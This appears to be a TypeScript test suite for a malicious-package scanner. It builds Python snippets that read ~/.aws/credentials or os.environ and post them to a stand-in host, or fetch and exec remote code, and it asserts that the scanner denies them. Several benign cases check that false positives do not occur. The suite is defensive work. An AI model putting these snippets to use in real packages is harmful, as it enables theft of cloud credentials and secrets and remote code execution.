import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describeFindings, scanFiles, tierOf } from './scan.js';

interface Way {
  readonly name: string;
  readonly source: string;
  /** only a text or a whole of several things comes out, which nothing would run */
  readonly dataOnly: boolean;
}

const plumbing: readonly Way[] = readFileSync(new URL('plumbing.txt', import.meta.url), 'utf8')
  .split(/^=== /m)
  .slice(1)
  .map((one) => {
    const [heading = '', ...lines] = one.split('\n');
    return {
      name: heading.replace(' (data)', ''),
      source: lines.join('\n'),
      dataOnly: heading.endsWith(' (data)'),
    };
  });

/** What is taken, and how it is sent or run. */
const payloads: readonly (readonly [name: string, taken: string, sent: (what: string) => string])[] = [
  [
    'credentials',
    "open(os.path.expanduser('~/.aws/credentials')).read()",
    (what) => `requests.post('https://c.demo.test/x', data=${what})`,
  ],
  [
    'the environment',
    'dict(os.environ)',
    (what) => `urllib.request.urlopen('https://c.demo.test/x', data=json.dumps(${what}).encode())`,
  ],
  ['a program', "requests.get('https://c.demo.test/p.py').text", (what) => `exec(${what})`],
];

function program(source: string, taken: string, sent: (what: string) => string): string {
  const filled = source
    .replaceAll(/\{SEND:((?:[^{}]|\{SRC\})*)\}/g, (_whole, what: string) => sent(what))
    .replaceAll('{SRC}', taken);
  return `import json, os, requests, urllib.request\n${filled}`;
}

const judged = (source: string): ReturnType<typeof scanFiles> => scanFiles({ 'demo/__init__.py': source });

describe('what is taken is followed to where it goes', () => {
  for (const [name, taken, sent] of payloads)
    for (const { name: way, source, dataOnly } of plumbing) {
      if (dataOnly && name === 'a program') continue;
      it(`${name}: ${way}`, () => {
        const findings = judged(program(source, taken, sent));
        assert.equal(tierOf(findings), 'deny', describeFindings(findings));
      });
    }

  it('by more than a hundred ways', () => assert.ok(plumbing.length > 140));

  it('and what is not taken is not, by the same ways', () => {
    const [, , sent] = payloads[0] ?? assert.fail();
    for (const { name: way, source } of plumbing) {
      const findings = judged(program(source, "open('report.txt').read()", sent));
      assert.notEqual(tierOf(findings), 'deny', `${way}: ${describeFindings(findings)}`);
    }
  });

  it('how one field of an object was put together says nothing of the others', () => {
    const findings = judged(
      "import subprocess\nclass Config:\n    def __init__(self, session, **kw):\n        self.name = session.store.name\n        self.args = kw.get('args', [])\nclass Session:\n    def __init__(self, **kw):\n        self.store = kw.get('store', None)\n        self.config = Config(self, **kw)\n    def log(self, raw):\n        self.store.last = ''.join(chr(ord(c) ^ 3) for c in raw)\n    def start(self):\n        subprocess.Popen([self.config.name] + self.config.args)\n",
    );
    assert.equal(tierOf(findings), 'pass', describeFindings(findings));
  });

  it('several services, each with a key of its own, are no sweep', () => {
    const keys = ['OPENCAGE', 'TOMTOM', 'MAPBOX', 'BING'];
    const findings = scanFiles({
      'demo/__init__.py': keys.map((key) => `from .${key.toLowerCase()} import ${key}`).join('\n'),
      'demo/keys.py': `import os\n${keys.map((key) => `${key} = os.environ.get('${key}_API_KEY')`).join('\n')}\n`,
      'demo/base.py':
        'import requests\nclass Query:\n    def run(self, place):\n        return requests.get(self.url, params=self.params(place, self.key)).json()\n',
      ...Object.fromEntries(
        keys.map((key) => [
          `demo/${key.toLowerCase()}.py`,
          `from .base import Query\nfrom .keys import ${key} as own\nclass ${key}(Query):\n    url = 'https://api.${key.toLowerCase()}.test/v1'\n    key = own\n    def params(self, place, key):\n        return {'q': place, 'key': key}\n`,
        ]),
      ),
    });
    assert.equal(tierOf(findings), 'pass', describeFindings(findings));
  });
});
